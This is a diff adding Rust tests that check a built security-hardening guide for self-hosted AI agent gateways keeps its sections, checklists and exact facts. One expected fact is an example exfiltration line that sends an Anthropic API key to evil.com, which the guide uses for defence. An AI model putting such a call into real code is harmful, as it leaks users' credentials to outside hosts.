@@ -1,0 +1,212 @@
+//! The shipped guide carries every part of its source: each section has its page, each
+//! checklist its items, and the exact facts (commands, files, numbers) survive the rewording.
+mod common;
+
+use std::path::Path;
+
+fn page(out: &Path, route: &str) -> String {
+    let file = out.join(route.trim_start_matches('/')).join("index.html");
+    std::fs::read_to_string(&file).unwrap_or_else(|_| panic!("{route} was not built"))
+}
+
+/// The page's text with tags removed and the few entities the renderer writes decoded.
+fn text(html: &str) -> String {
+    let mut out = String::with_capacity(html.len());
+    let mut in_tag = false;
+    for c in html.chars() {
+        match c {
+            '<' => in_tag = true,
+            '>' if in_tag => in_tag = false,
+            c if !in_tag => out.push(c),
+            _ => {}
+        }
+    }
+    out.replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&quot;", "\"")
+        .replace("&#39;", "'")
+        .replace("&amp;", "&")
+}
+
+fn item_ids(html: &str, checklist: &str) -> Vec<String> {
+    let needle = format!("data-item-id=\"{checklist}/");
+    html.match_indices(&needle)
+        .map(|(i, _)| {
+            let rest = &html[i + needle.len()..];
+            rest[..rest.find('"').unwrap()].to_string()
+        })
+        .collect()
+}
+
+#[test]
+fn every_section_of_the_source_has_its_page() {
+    let (_tmp, out) = common::shipped_site(&[]);
+    let sections = [
+        ("/moltworker/", "core-question"),
+        ("/moltworker/trust-boundary/", ""),
+        ("/moltworker/shared-infrastructure/", "rotation"),
+        ("/moltworker/egress/", "mitigation"),
+        ("/moltworker/r2-storage/", ""),
+        ("/moltworker/ai-gateway-logging/", ""),
+        ("/moltworker/device-pairing/", ""),
+        ("/moltworker/browser-rendering/", ""),
+        ("/moltworker/worst-case/", "self-hosted-response"),
+        ("/moltworker/when-it-fits/", "bad-fits"),
+        ("/moltworker/code-references/", ""),
+        ("/compare/", ""),
+        ("/mac-mini/risks/", "bind-fallback"),
+        ("/vps/risks/", "account-blast-radius"),
+        ("/self-hosting/", "network"),
+        ("/changelog/", ""),
+    ];
+    for (route, anchor) in sections {
+        let html = page(&out, route);
+        if !anchor.is_empty() {
+            assert!(html.contains(&format!("id=\"{anchor}\"")), "{route} lacks #{anchor}");
+        }
+        assert!(html.contains("Last reviewed"), "{route} shows no review date");
+    }
+    let trust = page(&out, "/moltworker/trust-boundary/");
+    assert!(
+        trust.contains("images/trust-boundary.svg") && trust.contains("alt=\""),
+        "the trust-boundary diagram is missing"
+    );
+}
+
+#[test]
+fn checklists_hold_every_item_of_the_source() {
+    let (_tmp, out) = common::shipped_site(&[]);
+    let predeploy = page(&out, "/checklists/moltworker-predeploy/");
+    let items: Vec<String> = item_ids(&predeploy, "moltworker-predeploy")
+        .into_iter()
+        .filter(|id| !id.contains('/'))
+        .collect();
+    assert_eq!(items.len(), 15, "section K has 15 items: {items:?}");
+    assert_eq!(
+        predeploy.matches("class=\"group-title\"").count(),
+        4,
+        "section K has 4 groups"
+    );
+    let recovery = page(&out, "/checklists/moltworker-recovery/");
+    let steps: Vec<String> = item_ids(&recovery, "moltworker-recovery");
+    assert_eq!(
+        steps.iter().filter(|id| !id.contains('/')).count(),
+        7,
+        "section L has 7 steps"
+    );
+    let recovery_text = text(&recovery);
+    for fact in [
+        "wrangler delete",
+        "Anthropic",
+        "OpenAI",
+        "Telegram",
+        "Discord",
+        "OAuth",
+        "@BotFather",
+        "/revoke",
+        "WhatsApp",
+        "R2",
+    ] {
+        assert!(recovery_text.contains(fact), "recovery checklist lacks {fact}");
+    }
+    // Every platform the questionnaire can recommend has both checklists.
+    for platform in ["mac", "vps", "moltworker"] {
+        for kind in ["predeploy", "recovery"] {
+            let html = page(&out, &format!("/checklists/{platform}-{kind}/"));
+            assert!(
+                item_ids(&html, &format!("{platform}-{kind}")).len() >= 5,
+                "{platform}-{kind} is too short"
+            );
+        }
+    }
+}
+
+#[test]
+fn exact_facts_survive_the_rewording() {
+    let (_tmp, out) = common::shipped_site(&[]);
+    let facts: &[(&str, &[&str])] = &[
+        (
+            "/moltworker/shared-infrastructure/",
+            &["env.ANTHROPIC_API_KEY", "wrangler secret put"],
+        ),
+        (
+            "/moltworker/egress/",
+            &[
+                "fetch(\"https://evil.com?key=\" + env.ANTHROPIC_API_KEY)",
+                "Little Snitch",
+                "iptables",
+                "ufw",
+            ],
+        ),
+        (
+            "/moltworker/device-pairing/",
+            &["PAIRING_CODE_LENGTH = 8", "src/pairing/constants.ts"],
+        ),
+        ("/moltworker/browser-rendering/", &["evaluateEnabled"]),
+        ("/moltworker/when-it-fits/", &["HIPAA", "PCI"]),
+        (
+            "/moltworker/code-references/",
+            &["wrangler.toml", "src/pairing/constants.ts"],
+        ),
+        (
+            "/mac-mini/risks/",
+            &[
+                "fdesetup status",
+                "sudo fdesetup enable",
+                "lsof -i :18789",
+                "src/gateway/net.ts",
+                "tmutil addexclusion ~/.openclaw",
+            ],
+        ),
+        (
+            "/vps/risks/",
+            &[
+                "curl http://YOUR_VPS_IP:18789/health",
+                "sudo ufw deny 18789",
+                "169.254.169.254",
+                "debsums -c",
+            ],
+        ),
+        (
+            "/vps/prevention/",
+            &["PermitRootLogin no", "MemoryMax=1G", "loginctl enable-linger"],
+        ),
+        (
+            "/self-hosting/",
+            &[
+                "18789",
+                "OPENCLAW_DISABLE_BONJOUR=1",
+                "_openclaw-gw._tcp",
+                "allowUnsafeExternalContent",
+                "22.12.0",
+                "341",
+                "Vidar",
+                "473 requests",
+                "$847",
+            ],
+        ),
+        ("/compare/", &["FileVault", "LUKS", "Little Snitch"]),
+    ];
+    for (route, list) in facts {
+        let body = text(&page(&out, route));
+        for fact in *list {
+            assert!(body.contains(fact), "{route} lacks the fact `{fact}`");
+        }
+    }
+}
+
+#[test]
+fn severity_is_shown_as_icon_and_word() {
+    let (_tmp, out) = common::shipped_site(&[]);
+    let html = page(&out, "/moltworker/egress/");
+    assert!(html.contains("sev sev-critical") && html.contains("sev-icon") && html.contains("Critical"));
+    let matrix = page(&out, "/compare/");
+    assert!(
+        matrix.contains("data-table heat"),
+        "the risk matrix is not drawn as a heat map"
+    );
+    assert!(
+        matrix.contains("<th scope=\"row\">") && matrix.contains("<caption"),
+        "the matrix is not an accessible table"
+    );
+}
